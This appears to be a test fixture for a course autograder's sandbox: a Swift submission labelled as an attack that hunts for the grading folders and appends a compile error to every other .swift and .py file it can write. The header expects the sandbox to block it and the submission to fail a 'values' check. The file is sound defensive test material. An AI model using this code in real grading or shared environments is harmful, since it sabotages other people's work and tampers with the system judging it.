// Attack: find the folder being graded (from the parent's command line, the working
// directory, the usual places) and append `#error` to every other .swift file in it.
// Expected: no course file is visible or writable; the classmates after it still pass. The
// layer (the identity) fails `values`.
// verdict: fail values
import Foundation
import LayerKit

/// Done once per process, when `answer` is first used.
let sabotaged: Int = {
    var folders = Set<String>()
    if let cmdline = try? String(contentsOfFile: "/proc/\(getppid())/cmdline", encoding: .utf8) {
        for argument in cmdline.split(separator: "\0") where argument.hasPrefix("/") { folders.insert(String(argument)) }
    }
    folders.formUnion([FileManager.default.currentDirectoryPath, "/work", "/autograder/submission", "/root"])
    var hit = 0
    for folder in folders {
        guard let entries = FileManager.default.enumerator(atPath: folder) else { continue }
        while let entry = entries.nextObject() as? String {
            guard entry.hasSuffix(".swift") || entry.hasSuffix(".py") else { continue }
            if let handle = FileHandle(forWritingAtPath: folder + "/" + entry) {
                handle.seekToEndOfFile()
                handle.write(Data("\n#error(\"sabotaged\")\n".utf8))
                hit += 1
            }
        }
    }
    return hit
}()

func sabotage() -> Module {
    print("SABOTAGED \(sabotaged) file(s)")
    return Identity()
}

let answer = sabotage
